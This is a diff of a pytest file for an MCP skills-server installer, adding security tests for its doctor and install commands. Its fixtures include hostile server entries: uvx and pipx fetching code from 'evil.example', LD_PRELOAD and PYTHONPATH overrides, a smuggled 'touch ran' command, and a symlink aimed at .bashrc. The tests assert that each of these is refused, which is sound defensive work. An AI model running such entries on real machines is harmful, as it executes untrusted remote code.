@@ -5,12 +5,13 @@ from __future__ import annotations
 import json
 import os
 import re
+import shlex
 import shutil
 import stat
 import subprocess
 import sys
 import tomllib
-from collections.abc import Callable
+from collections.abc import Callable, Mapping
 from pathlib import Path
 from typing import Any
 
@@ -338,7 +339,7 @@ def test_entry_command_is_the_running_program_or_the_given_one(
     program = tmp_path / "bin" / "mcp-skills-server"
     program.parent.mkdir()
     program.touch(mode=0o755)
-    assert command() == [os.path.abspath(sys.executable), "-m", "mcp_skills_server", "serve"]
+    assert command() == [os.path.abspath(sys.executable), "-P", "-m", "mcp_skills_server", "serve"]
     monkeypatch.setattr(sys, "argv", [str(program), "install"])
     assert command() == [str(program), "serve"]
     monkeypatch.setenv("PATH", str(program.parent))
@@ -348,6 +349,13 @@ def test_entry_command_is_the_running_program_or_the_given_one(
     monkeypatch.chdir(tmp_path)
     assert command("--command", "bin/mcp-skills-server") == [str(program), "serve"]
     assert "no such file" in usage_error(platform, "cursor", skills, "--command", "bin/nothing")
+
+
+def test_install_of_a_folder_without_skills_warns(platform: Platform, tmp_path: Path) -> None:
+    (tmp_path / "empty").mkdir()
+    said = stderr_of(platform, "cursor", tmp_path / "empty")
+    assert f"no skill to serve at {tmp_path / 'empty'}; give a folder of skills" in said
+    assert command_line("cursor", location(HOSTS["cursor"], platform))[-1] == str(tmp_path / "empty")
 
 
 @each_row(("host", "name", "expanded"), [
@@ -410,7 +418,7 @@ def test_dry_run_prints_a_patch_that_applies(tmp_path: Path, skills: Path, host:
 
 
 @each_row(("host", "content", "reason"), [
-    ("cursor", '{\n  "mcpServers": {,}\n}', "line 2"), ("claude-code", CODE[:200], "not valid JSON"),
+    ("cursor", '{\n  "mcpServers": {,}\n}', "line 2, column 18: "), ("claude-code", CODE[:200], "not valid JSON"),
     ("claude-desktop", '{\n// no\n"a": 1}', "line 2"), ("vscode", '{}\n/* "a"', "line 2 is not closed"),
     ("gemini-cli", '{"a": 1,}', "not valid JSON"), ("cursor", '{"a": NaN}', "NaN"),
     ("cursor", "[]", "not a JSON object"), ("vscode", '{"servers": null}', "'servers'"),
@@ -613,7 +621,7 @@ def test_doctor_starts_entries_and_counts_skills(platform: Platform, two_skills:
     for host in ("cursor", "codex", "opencode"):
         run(platform, host, two_skills)
     run(platform, "vscode", two_skills, "--project", "--exclude", "two")
-    done = invoke(doctor, platform)
+    done = invoke(doctor, platform, "--project")
     assert done.return_value == 0, done.stdout
     assert done.stdout.count("works: 2 skills, ") == 3 and done.stdout.count("works: 1 skill, ") == 1
     assert len(re.findall(r", \d\d?\.\d s from start to list\n", done.stdout)) == done.stdout.count("\n") == 4
@@ -645,6 +653,147 @@ def test_doctor_times_out_on_silent_server(platform: Platform, tmp_path: Path) -
     done = invoke(doctor, platform, "cursor", "--timeout", "0.5")
     assert done.return_value == 1
     assert "did not answer within 0.5 s; it said: 2 / 3 / 4\n" in done.stdout
+
+
+def project_entry(platform: Platform, words: list[str], env: Mapping[str, str] | None = None) -> Path:
+    """Write an entry of this command line to the project's file of Claude Code."""
+    path = location(HOSTS["claude-code"], platform, project=True)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    entry = {"command": words[0], "args": words[1:], "env": dict(env or {})}
+    path.write_text(json.dumps({"mcpServers": {"skills": entry}}), encoding="utf-8")
+    return path
+
+
+OWN = [os.path.abspath(sys.executable), "-P", "-m", "mcp_skills_server", "serve"]
+
+
+def test_doctor_describes_an_entry_of_the_project_without_starting_it(platform: Platform, two_skills: Path) -> None:
+    path = project_entry(platform, [*OWN, str(two_skills)])
+    done = invoke(doctor, platform)
+    assert done.return_value == 0
+    reason = "not started: a project's file may be anyone's, and --project starts it"
+    assert done.stdout == f"claude-code: 'skills' in {path}: {reason}; it runs {shlex.join([*OWN, str(two_skills)])}\n"
+
+
+@each_row(
+    ("words", "env", "reason"),
+    [
+        (["python3", "-c", "open('ran', 'w')", "mcp_skills_server", "serve"], {}, "another program"),
+        (["python3", "-m", "mcp_skills_server", "serve"], {}, "another program"),
+        (["{here}/mcp-skills-server", "serve"], {}, "another program"),
+        (["./mcp-skills-server", "serve"], {}, "another program"),
+        (["uvx", "--with", "evil", "mcp-skills-server", "serve"], {}, "another program"),
+        (["uvx", "--from", "git+https://evil.example/x", "mcp-skills-server", "serve"], {}, "another program"),
+        (["pipx", "run", "--index-url", "https://evil.example", "mcp-skills-server", "serve"], {}, "another program"),
+        ([*OWN, "mcp+stdio:touch ran"], {}, "another program"),
+        ([*OWN, "mcp+http://127.0.0.1/mcp"], {}, "another program"),
+        ([*OWN, "--", "mcp+stdio:touch ran"], {}, "another program"),
+        ([*OWN, "--config", "evil.toml"], {}, "another program"),
+        ([*OWN, "--config=evil.toml"], {}, "another program"),
+        ([*OWN, "--include", "--config=evil.toml"], {}, "another program"),
+        ([*OWN, "--allow-scripts"], {}, "another program"),
+        (OWN, {"PYTHONPATH": "evil"}, "it sets PYTHONPATH"),
+        (OWN, {"LD_PRELOAD": "evil.so"}, "it sets LD_PRELOAD"),
+        (OWN, {"PATH": "evil"}, "it sets PATH"),
+        (OWN, {"MCP_SKILLS_CONFIG": "evil.toml"}, "it sets MCP_SKILLS_CONFIG"),
+        (OWN, {"MCP_SKILLS_ROOTS": "mcp+stdio:touch ran"}, "it sets MCP_SKILLS_ROOTS"),
+        (OWN, {"MCP_SKILLS_ALLOW_SCRIPTS": "1"}, "it sets MCP_SKILLS_ALLOW_SCRIPTS"),
+    ],
+)
+def test_doctor_starts_no_entry_of_the_project_that_can_do_more_than_read_skills(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, words: list[str], env: dict[str, str], reason: str
+) -> None:
+    platform = platform_below(tmp_path)
+    here = platform.project
+    here.mkdir()
+    monkeypatch.chdir(here)
+    for name in ("mcp-skills-server", "uvx", "pipx"):
+        (here / name).write_text("#!/bin/sh\ntouch ran\n")
+        (here / name).chmod(0o755)
+    monkeypatch.setattr("mcp_skills_server.commands.install._BARE_PATH", f"{here}:/usr/bin:/bin")
+    path = project_entry(platform, [word.replace("{here}", str(here)) for word in words], env)
+    done = invoke(doctor, platform, "--project")
+    assert f"{path}: " in done.stdout and reason in done.stdout and "it said" not in done.stdout
+    assert done.return_value == 1
+    assert not (here / "ran").exists()
+
+
+def test_doctor_starts_a_harmless_entry_of_the_project_when_asked(platform: Platform, two_skills: Path) -> None:
+    project_entry(platform, [*OWN, "--include=two", str(two_skills)], {"MCP_SKILLS_WATCH": "0"})
+    done = invoke(doctor, platform, "--project")
+    assert done.return_value == 0 and "works: 1 skill, " in done.stdout
+
+
+@each_row(
+    ("words", "is_known"),
+    [
+        (["uvx", "mcp-skills-server", "serve", "x"], True),
+        (["uvx", "mcp-skills-server@0.1.0", "serve"], True),
+        (["uvx", "--from", "mcp-skills-server[watch,otel]==0.1.0", "mcp-skills-server", "serve", "--include=a"], True),
+        (["uv", "tool", "run", "mcp-skills-server", "serve"], True),
+        (["pipx", "run", "--spec", "mcp-skills-server[otel]", "mcp-skills-server", "serve", "/a b", "c"], True),
+        (["mcp-skills-server", "serve", "x"], True),
+        (["/opt/mcp-skills-server", "serve", "x"], True),
+        (["/tmp/mcp-skills-server", "serve", "x"], False),
+        (["mcp-skills-server", "serve", "--poll"], False),
+        (["mcp-skills-server", "serve", "mcp+stdio:x"], False),
+        (["mcp-skills-server", "serve\n--config=x"], False),
+        (["mcp-skills-server", "acp", "serve"], False),
+        (["uvx", "mcp-skills-server@https://evil.example/x.whl", "serve"], False),
+        (["uvx", "mcp-skills-server-evil", "serve"], False),
+        (["uvx", "mcp-skills-server", "--with", "evil", "serve"], False),
+        (["/tmp/uvx", "mcp-skills-server", "serve"], False),
+        (["uvx", "mcp-skills-server"], False),
+        (["serve"], False),
+        ([], False),
+    ],
+)
+def test_command_line_that_can_only_read_skills_is_known(words: list[str], is_known: bool) -> None:
+    assert edit.only_reads_skills(words, ["/opt/mcp-skills-server"]) is is_known
+
+
+def test_doctor_starts_servers_in_a_folder_of_their_own(platform: Platform, tmp_path: Path) -> None:
+    """In a shared folder, such as /tmp, Python would load other people's modules."""
+    silent = tmp_path / "mcp-skills-server"
+    silent.write_text("#!/bin/sh\npwd >&2; ls -A >&2; exit 1\n")
+    silent.chmod(0o755)
+    run(platform, "cursor", tmp_path, "--command", silent)
+    said = invoke(doctor, platform, "cursor").stdout.partition("it said: ")[2]
+    assert re.fullmatch(r"\S+/mcp-skills-doctor-\w+\n", said)
+
+
+@each_row(("link", "target"), [(".cursor", "home"), (".cursor/mcp.json", "home/.bashrc")])
+def test_install_writes_through_no_link_of_the_project(skills: Path, tmp_path: Path, link: str, target: str) -> None:
+    platform = platform_below(tmp_path)
+    place, outside = platform.project / link, tmp_path / target
+    place.parent.mkdir(parents=True)
+    (tmp_path / "home").mkdir()
+    if target != "home":
+        outside.write_text("{}")
+    place.symlink_to(outside)
+    before = sorted(map(str, outside.rglob("*"))), outside.is_file() and outside.read_text()
+    for words in ([skills], [skills, "--dry-run"], ["--uninstall"]):
+        said = usage_error(platform, "cursor", "--project", *words)
+        assert f"a link leads to {outside}" in said
+    assert before == (sorted(map(str, outside.rglob("*"))), outside.is_file() and outside.read_text())
+
+
+def test_install_below_a_linked_project_or_home_follows_the_users_own_links(tmp_path: Path, skills: Path) -> None:
+    (tmp_path / "real").mkdir()
+    (tmp_path / "link").symlink_to("real")
+    run(platform_below(tmp_path / "link"), "cursor", skills, "--project")
+    assert (tmp_path / "real" / "project" / ".cursor" / "mcp.json").exists()
+
+
+@each_row(
+    "root",
+    ["https://me:PASSWORD@skills.example", "https://PASSWORD@skills.example/mcp", "git+https://PASSWORD@git.example/a",
+     "mcp+https://me:PASSWORD@skills.example/mcp", "git+ssh://git:PASSWORD@git.example/a", "ftp://me:PASSWORD@h/a"],
+)  # fmt: skip
+def test_install_writes_and_shows_no_password_of_a_root(platform: Platform, root: str) -> None:
+    said = usage_error(platform, "cursor", root)
+    assert "PASSWORD" not in said and "the host's file would hold the password" in said
+    assert not location(HOSTS["cursor"], platform).exists()
 
 
 def test_doctor_reports_missing_entries_and_broken_files(platform: Platform) -> None:
